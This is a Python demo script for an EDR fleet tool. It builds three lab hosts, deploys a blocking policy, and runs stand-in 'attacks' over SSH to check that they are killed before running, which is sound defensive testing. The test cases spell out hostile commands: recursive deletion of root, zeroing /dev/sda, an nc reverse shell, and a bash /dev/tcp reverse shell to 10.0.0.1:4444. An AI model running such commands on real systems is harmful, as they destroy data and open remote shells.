#!/usr/bin/env python3
"""`make demo`: a 3-host lab fleet on this machine, the default policy deployed to it, canary
attacks blocked inside the hosts over SSH, harmless look-alikes run, then the central report.

    edrfleet lab up --hosts 3      network namespaces, each with its own sshd and cgroup
    edrfleet deploy INVENTORY      agent + each host's policy (default + lab-canary rule)
    (attacks over SSH)             killed in the kernel before they run
    edrfleet report INVENTORY      events pulled from every host into one SQLite store
    edrfleet lab down              every trace removed

Safety: every "attack" is harmless if blocking failed.  The rm canary deletes only its own
/tmp/edrfleet-canary-* directory; every other attacking program is a copy of /bin/true under
the attacked program's name (dd, nc, bash …), so even unblocked it does nothing.  The agents
judge only the processes in their lab host's cgroup.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from rich.console import Console
from rich.table import Table

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from edrfleet.fleet.inventory.load import load_inventory  # noqa: E402
from edrfleet.fleet.transport.ssh import SshTransport  # noqa: E402

WORK = REPO / ".edrfleet" / "demo"
LAB = WORK / "lab"
INVENTORY = LAB / "inventory.yml"
console = Console()


def edrfleet(*args: str) -> float:
    """Run one edrfleet command as a user would, showing it; returns its wall time."""
    console.print(f"\n[bold cyan]$ edrfleet {' '.join(args)}[/bold cyan]")
    t0 = time.monotonic()
    subprocess.run([sys.executable, "-m", "edrfleet.cli.main", *args], cwd=REPO, check=True)
    return time.monotonic() - t0


def cases(bindir: Path, canary: Path, scratch: Path) -> list[tuple[str, str, list[str]]]:
    def standin(name: str) -> str:
        path = bindir / name
        if not path.exists():
            shutil.copy2("/bin/true", path)
        return str(path)

    return [
        ("attack", f"rm -rf {canary}", ["rm", "-rf", str(canary)]),
        ("attack", "rm -rf --no-preserve-root /",
         [standin("rm"), "-rf", "--no-preserve-root", "/"]),
        ("attack", "dd if=/dev/zero of=/dev/sda", [standin("dd"), "if=/dev/zero", "of=/dev/sda"]),
        ("attack", "nc -e /bin/sh 10.0.0.1 4444",
         [standin("nc"), "-e", "/bin/sh", "10.0.0.1", "4444"]),
        ("attack", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
         [standin("bash"), "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
        ("harmless", f"rm -rf {scratch}", ["rm", "-rf", str(scratch)]),
        ("harmless", "dd if=/dev/zero of=/dev/null count=1",
         ["dd", "if=/dev/zero", "of=/dev/null", "count=1"]),
        ("harmless", "ls /tmp", ["ls", "/tmp"]),
    ]


def attack(bindir: Path) -> bool:
    """Run the cases inside every lab host over SSH; True when every canary survived."""
    inv = load_inventory(INVENTORY)
    table = Table(title="commands run inside the lab hosts over SSH")
    for col in ("host", "kind", "command", "result"):
        table.add_column(col)
    all_safe = True
    for host in inv.hosts.values():
        canary = Path(tempfile.mkdtemp(prefix="edrfleet-canary-", dir="/tmp"))
        (canary / "precious").write_text("still here\n")
        scratch = Path(tempfile.mkdtemp(prefix="edrfleet-scratch-", dir="/tmp"))
        with SshTransport(host, INVENTORY.parent) as t:
            for kind, shown, argv in cases(bindir, canary, scratch):
                # a shell that waits for the command, so a kill shows as status 137; -1 is
                # the SSH session's own shell killed (its command line carries the attack)
                r = t.run(["sh", "-c", '"$@"; exit $?', "sh", *argv], check=False)
                result = ("[red]killed before it ran[/red]" if r.rc in (137, -1)
                          else f"[green]ran[/green] (exit {r.rc})")
                table.add_row(host.name, kind, shown, result)
        survived = (canary / "precious").exists()
        all_safe &= survived
        table.add_row(host.name, "", f"canary {canary}",
                      "[green]survived[/green]" if survived else "[red]GONE[/red]")
        shutil.rmtree(canary, ignore_errors=True)
        shutil.rmtree(scratch, ignore_errors=True)
    console.print(table)
    return all_safe


def main() -> int:
    t0 = time.monotonic()
    shutil.rmtree(WORK, ignore_errors=True)
    bindir = Path(tempfile.mkdtemp(prefix="edrfleet-demo-bin-", dir="/tmp"))
    times: dict[str, float] = {}
    try:
        times["lab up"] = edrfleet("lab", "up", "--hosts", "3", "--dir", str(LAB))
        times["deploy"] = edrfleet("deploy", str(INVENTORY))
        times["rerun"] = edrfleet("deploy", str(INVENTORY))
        edrfleet("status", str(INVENTORY))
        safe = attack(bindir)
        time.sleep(1.0)  # the agents write non-kill events at their next poll
        times["report"] = edrfleet("report", str(INVENTORY), "--db", str(WORK / "report.db"))
    finally:
        edrfleet("lab", "down", "--dir", str(LAB))
        shutil.rmtree(bindir, ignore_errors=True)
    figures = ", ".join(f"{k} {v:.1f} s" for k, v in times.items())
    console.print(f"\n[bold]demo done in {time.monotonic() - t0:.1f} s[/bold] ({figures})")
    return 0 if safe else 1


if __name__ == "__main__":
    sys.exit(main())
